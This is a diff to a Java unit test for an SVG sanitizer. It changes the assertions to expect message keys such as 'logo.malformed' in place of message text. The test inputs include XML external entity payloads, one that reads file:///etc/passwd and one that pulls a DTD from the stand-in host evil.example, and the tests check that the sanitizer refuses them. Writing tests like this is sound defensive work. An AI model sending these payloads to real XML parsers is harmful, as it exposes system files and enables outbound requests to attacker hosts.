@@ -160,7 +160,7 @@ class SvgSanitizerTest {
         String xxe = "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
                 + "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>&xxe;</text></svg>";
         assertThatThrownBy(() -> SvgSanitizer.sanitize(xxe)).isInstanceOf(SvgSanitizer.Refused.class)
-                .hasMessageContaining("well-formed");
+                .hasMessage("logo.malformed");
         String parameterEntity = "<!DOCTYPE svg [<!ENTITY % p SYSTEM \"https://evil.example/x.dtd\"> %p;]>"
                 + "<svg xmlns=\"http://www.w3.org/2000/svg\">" + RECT + "</svg>";
         assertThatThrownBy(() -> SvgSanitizer.sanitize(parameterEntity)).isInstanceOf(SvgSanitizer.Refused.class);
@@ -192,7 +192,7 @@ class SvgSanitizerTest {
     })
     void refusesMarkupThatIsNotWellFormed(String markup) {
         assertThatThrownBy(() -> SvgSanitizer.sanitize(markup)).isInstanceOf(SvgSanitizer.Refused.class)
-                .hasMessageContaining("well-formed");
+                .hasMessage("logo.malformed");
     }
 
     @ParameterizedTest
@@ -203,7 +203,7 @@ class SvgSanitizerTest {
     })
     void refusesARootThatIsNotSvg(String markup) {
         assertThatThrownBy(() -> SvgSanitizer.sanitize(markup)).isInstanceOf(SvgSanitizer.Refused.class)
-                .hasMessageContaining("root element must be <svg>");
+                .hasMessage("logo.notSvg");
     }
 
     @Test
